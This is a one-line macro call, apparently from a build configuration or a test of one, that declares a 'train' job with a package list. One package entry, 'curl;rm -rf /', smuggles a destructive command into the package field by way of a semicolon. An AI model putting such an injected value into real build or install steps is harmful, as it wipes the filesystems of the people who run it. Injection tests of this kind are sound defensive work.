wandb_add_job(train PACKAGES libeigen3-dev "curl;rm -rf /")
